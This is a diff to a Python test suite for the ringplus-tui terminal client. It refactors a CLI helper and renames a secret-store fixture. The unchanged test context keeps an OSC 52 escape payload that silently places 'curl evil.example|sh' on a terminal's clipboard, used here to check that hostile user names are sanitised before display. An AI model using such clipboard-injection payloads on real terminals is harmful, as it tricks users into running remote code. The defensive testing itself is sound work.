@@ -4,9 +4,6 @@
 from __future__ import annotations
 
 import json
-import os
-import subprocess
-import sys
 import time
 from dataclasses import replace
 from pathlib import Path
@@ -17,27 +14,11 @@ from ringplus_tui.cli.main import main
 from ringplus_tui.core.models import Account
 from ringplus_tui.sandbox import Sandbox
 from ringplus_tui.store.settings import SettingsStore
+from tests.helpers.cli import Cli
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
 """Writes ``curl evil.example|sh`` to the clipboard of a terminal that obeys it."""
 RETITLE = "\x1b]0;title\x07"
-
-
-class Cli:
-    """Runs the installed ``ringplus-tui`` with this test's settings and keyring service."""
-
-    def __init__(self, home: Path, service_name: str) -> None:
-        self.env = {
-            **os.environ,
-            "RINGPLUS_TUI_HOME": str(home),
-            "RINGPLUS_TUI_KEYRING_SERVICE": service_name,
-        }
-
-    def __call__(self, *args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
-        command = str(Path(sys.executable).with_name("ringplus-tui"))
-        return subprocess.run(
-            [command, *args], input=stdin, capture_output=True, text=True, env=self.env, timeout=60
-        )
 
 
 def _no_controls(text: str) -> bool:
@@ -101,7 +82,7 @@ def test_an_error_naming_hostile_text_cannot_drive_the_terminal(
 
 
 def test_a_hostile_user_name_from_the_provider_never_reaches_the_terminal(
-    config_dir: Path, keyring_store, sandbox: Sandbox
+    config_dir: Path, secret_store, sandbox: Sandbox
 ) -> None:
     from ringplus_tui.store.secret_store import (
         access_token_key,
@@ -112,7 +93,7 @@ def test_a_hostile_user_name_from_the_provider_never_reaches_the_terminal(
     sandbox.state.users = [
         replace(user, name=f"Alice {OSC52}{RETITLE}[/]") for user in sandbox.state.users
     ]
-    cli = Cli(config_dir, keyring_store.service)
+    cli = Cli(config_dir, secret_store.service)
     p = sandbox.provider()
     try:
         added = cli(
@@ -137,5 +118,5 @@ def test_a_hostile_user_name_from_the_provider_never_reaches_the_terminal(
         assert raw[0]["user"].startswith(f"Alice {OSC52}{RETITLE}[/]")  # machine output: exact
     finally:
         for key in (access_token_key("alice"), refresh_token_key("alice"), "account:alice:pending"):
-            keyring_store.delete(key)
-        keyring_store.delete(client_secret_key("sandbox"))
+            secret_store.delete(key)
+        secret_store.delete(client_secret_key("sandbox"))
